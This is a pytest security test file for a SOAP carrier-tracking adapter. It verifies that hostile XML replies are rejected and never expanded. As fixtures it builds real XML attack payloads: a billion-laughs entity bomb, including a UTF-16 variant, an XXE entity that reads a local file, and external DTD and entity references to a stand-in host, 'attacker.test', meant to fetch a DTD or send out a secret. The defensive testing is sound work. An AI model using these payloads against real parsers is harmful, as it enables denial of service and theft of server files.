"""Hostile carrier replies (DTDs, entity expansion, external references) are refused, never expanded."""

from __future__ import annotations

import time

import pytest
import responses

from adapters import base
from schemas import carrier

ENVELOPE_OPEN = '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>'
ENVELOPE_CLOSE = "</soapenv:Body></soapenv:Envelope>"
TRACK_BODY = (
    '<t:trackShipmentRequestResponse xmlns:t="http://scxgxtt.phx-dc.dhl.com/glDHLExpressTrack/'
    'providers/services/trackShipment"><trackingResponse>{payload}</trackingResponse>'
    "</t:trackShipmentRequestResponse>"
)


def hostile(doctype: str, payload: str) -> str:
    return f'<?xml version="1.0"?>\n{doctype}\n{ENVELOPE_OPEN}{TRACK_BODY.format(payload=payload)}{ENVELOPE_CLOSE}'


BILLION_LAUGHS = hostile(
    "<!DOCTYPE soapenv:Envelope [\n"
    '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>",
    "&lol9;",
)


def track(adapter: base.Adapter) -> carrier.TrackResult:
    return adapter.track(carrier.TrackRequest(tracking_number="1234567890"))


def test_billion_laughs_is_rejected_quickly_without_expansion(make_adapter):
    adapter = make_adapter()
    recorded: list[dict] = []
    adapter._recorder = recorded.append
    with responses.RequestsMock() as mock:
        mock.post(adapter.tracking_url, body=BILLION_LAUGHS, content_type="text/xml")
        started = time.monotonic()
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)
        elapsed = time.monotonic() - started
        calls = len(mock.calls)

    assert err.value.code == "unsafe_xml"
    assert not err.value.retryable
    assert elapsed < 2
    assert calls == 1  # refused, not retried
    assert "lollollol" not in str(err.value) + repr(recorded)


def test_external_entity_pointing_at_a_local_file_is_rejected_and_never_read(make_adapter, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("MARKER-7f3a-local-file-content")
    reply = hostile(
        f'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>',
        '<ns:TrackingResponse xmlns:ns="http://www.dhl.com">&xxe;</ns:TrackingResponse>',
    )
    adapter = make_adapter()
    recorded: list[dict] = []
    adapter._recorder = recorded.append
    with responses.RequestsMock() as mock:
        mock.post(adapter.tracking_url, body=reply, content_type="text/xml")
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)

    assert err.value.code == "unsafe_xml"
    assert "MARKER-7f3a" not in str(err.value) + repr(recorded)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.test/evil.dtd">',
        '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.test/evil.dtd"> %remote;]>',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://attacker.test/secret">]>',
    ],
    ids=["external-dtd", "external-parameter-entity", "external-general-entity"],
)
def test_external_references_are_rejected_and_never_fetched(make_adapter, doctype):
    adapter = make_adapter()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.post(adapter.tracking_url, body=hostile(doctype, ""), content_type="text/xml")
        fetched = mock.get("http://attacker.test/evil.dtd", body='<!ENTITY leak "x">')
        fetched_secret = mock.get("http://attacker.test/secret", body="stolen")
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)

    assert err.value.code == "unsafe_xml"
    assert fetched.call_count == 0
    assert fetched_secret.call_count == 0


def test_a_harmless_looking_dtd_is_still_refused(make_adapter, reply):
    body = reply("track_reply.xml").replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE SOAP-ENV:Envelope>',
    )
    adapter = make_adapter()
    with responses.RequestsMock() as mock:
        mock.post(adapter.tracking_url, body=body, content_type="text/xml")
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)

    assert err.value.code == "unsafe_xml"


def test_a_soap_fault_carrying_an_entity_is_refused_before_its_message_is_read(make_adapter):
    fault = (
        '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY boom "EXPANDED-ENTITY">]>'
        f"{ENVELOPE_OPEN}<soapenv:Fault><faultcode>soapenv:Server</faultcode>"
        f"<faultstring>&boom;</faultstring></soapenv:Fault>{ENVELOPE_CLOSE}"
    )
    adapter = make_adapter()
    with responses.RequestsMock() as mock:
        mock.post(adapter.tracking_url, body=fault, status=500, content_type="text/xml")
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)

    assert err.value.code == "unsafe_xml"
    assert "EXPANDED-ENTITY" not in str(err.value)


def test_a_utf16_encoded_entity_bomb_is_rejected_too(make_adapter):
    adapter = make_adapter()
    with responses.RequestsMock() as mock:
        mock.post(adapter.tracking_url, body=BILLION_LAUGHS.encode("utf-16"), content_type="text/xml")
        with pytest.raises(base.CarrierRejected) as err:
            track(adapter)

    assert err.value.code == "unsafe_xml"
